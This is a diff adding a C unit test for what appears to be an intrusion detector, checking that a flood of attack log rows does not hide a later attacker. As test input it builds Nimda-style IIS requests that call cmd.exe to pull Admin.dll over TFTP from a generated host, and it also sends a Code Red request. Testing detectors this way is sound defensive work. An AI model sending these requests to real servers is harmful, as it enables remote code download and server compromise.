@@ -484,6 +484,29 @@ static void many_attackers_are_all_kept(void **state)
 	court_free(&c);
 }
 
+/* One attacker names a quarter of a million others: that must not hide who comes after. */
+static void names_crowd_nobody_out(void **state)
+{
+	struct court c = court_of(NULL);
+	size_t n_senders = 0;
+	(void)state;
+	for (uint32_t i = 0; i < ATTACKS_MAX + 10; i++) {
+		char target[120], named[ADDR_TEXT_BYTES];
+		struct addr a = addr_v4(0x0b000000 + i);
+		(void)snprintf(target, sizeof target,
+			"/c/winnt/system32/cmd.exe?/c+tftp+-i+%s+GET+Admin.dll",
+			addr_format(&a, named));
+		see(&c, asked("10.0.0.1", "10.0.0.2", target, 404, NOON_S, i + 1));
+	}
+	see(&c, asked("10.0.0.3", "10.0.0.2", CODE_RED_2, 404, NOON_S, ATTACKS_MAX + 11));
+	judge_all(&c);
+	assert_true(c.findings.n < ATTACKS_MAX / 2);
+	for (size_t i = 0; i < c.findings.n; i++)
+		n_senders += addr_low32(&c.findings.finding[i].host) >> 24 == 10;
+	assert_int_equal(n_senders, 2);
+	court_free(&c);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -502,6 +525,7 @@ int main(void)
 		cmocka_unit_test(order_parts_and_repetition_change_nothing),
 		cmocka_unit_test(rows_that_both_parts_saw_count_once),
 		cmocka_unit_test(many_attackers_are_all_kept),
+		cmocka_unit_test(names_crowd_nobody_out),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
